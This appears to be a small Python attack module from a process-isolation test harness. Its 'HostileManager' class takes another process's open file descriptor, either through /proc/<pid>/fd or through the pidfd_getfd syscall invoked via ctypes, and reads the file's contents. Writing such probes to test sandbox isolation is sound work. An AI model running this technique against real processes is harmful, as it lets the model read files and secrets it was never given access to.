"""Takes an open file of another process.

Control: secret, each turn.
"""

import os

TURNS = 2


class HostileManager:
    def attack(self, *, victim_pid, victim_descriptor, turn):
        if turn:
            taken = os.open(f"/proc/{victim_pid}/fd/{victim_descriptor}", os.O_RDONLY)
        else:
            import ctypes

            process = os.pidfd_open(victim_pid)
            pidfd_getfd = 438
            taken = ctypes.CDLL(None).syscall(pidfd_getfd, process, victim_descriptor, 0)
        return os.pread(taken, 100, 0).decode()
